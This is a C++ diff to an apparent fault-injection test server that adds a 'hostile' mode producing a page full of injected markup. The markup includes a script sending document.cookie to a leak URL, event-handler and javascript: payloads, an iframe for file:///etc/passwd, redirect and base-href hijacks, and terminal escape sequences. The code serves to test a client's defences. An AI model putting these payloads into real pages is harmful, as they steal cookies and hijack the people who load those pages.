@@ -17,6 +17,7 @@ const KindName kKinds[] = {
     {"redirect", FaultKind::Redirect}, {"badutf8", FaultKind::BadUtf8},
     {"cutoff", FaultKind::CutOff},     {"nomarker", FaultKind::NoMarker},
     {"empty", FaultKind::EmptyBody},   {"hold", FaultKind::Hold},
+    {"hostile", FaultKind::Hostile},
 };
 
 bool AllDigits(const std::string& s) {
@@ -103,7 +104,47 @@ std::string FaultUsage() {
            "             nomarker        remove the page's list or content markers\n"
            "             empty           200 with an empty body\n"
            "             hold            no answer at all (until the server stops)\n"
+           "             hostile         script, frames, a redirect and the like put into the page\n"
            "  @TIMES     only the next TIMES requests (default: all)\n";
+}
+
+std::string HostileMarkup(const std::string& leakBase) {
+    const std::string leak = leakBase + "/leak";
+    const std::string pwn = "document.title='pwned';document.documentElement.setAttribute('data-pwned','1');";
+    return "<script>" + pwn + "new Image().src='" + leak +
+           "?script='+document.cookie</script>"
+           "<img src=nothing onerror=\"" +
+           pwn + "new Image().src='" + leak +
+           "?onerror'\">"
+           "<svg onload=\"" +
+           pwn + "\"><a xlink:href=\"javascript:" + pwn +
+           "\">svg</a></svg>"
+           "<iframe src=\"file:///etc/passwd\"></iframe><iframe src=\"" +
+           leak +
+           "?frame\"></iframe>"
+           "<object data=\"" +
+           leak + "?object\"></object><embed src=\"" + leak +
+           "?embed\">"
+           "<meta http-equiv=refresh content=\"0;url=" +
+           leak +
+           "?refresh\">"
+           "<link rel=stylesheet href=\"" +
+           leak + "?css\"><base href=\"" + leak +
+           "/\"><img src=\"base.gif\">"
+           "<form action=\"" +
+           leak + "?form\"><input autofocus onfocus=\"" + pwn +
+           "\"></form>"
+           "<noscript><img src=nothing onerror=\"" +
+           pwn +
+           "\"></noscript>"
+           "<a href=\"javascript:" +
+           pwn + "\">js</a><body onload=\"" + pwn +
+           "\">"
+           "<select><img src=nothing onerror=\"" +
+           pwn +
+           "\"></select>"
+           // For a terminal: retitle the window, clear the screen.
+           "\x1b]0;pwned\x07\x1b[2J";
 }
 
 int FaultTable::Add(const Fault& fault) {
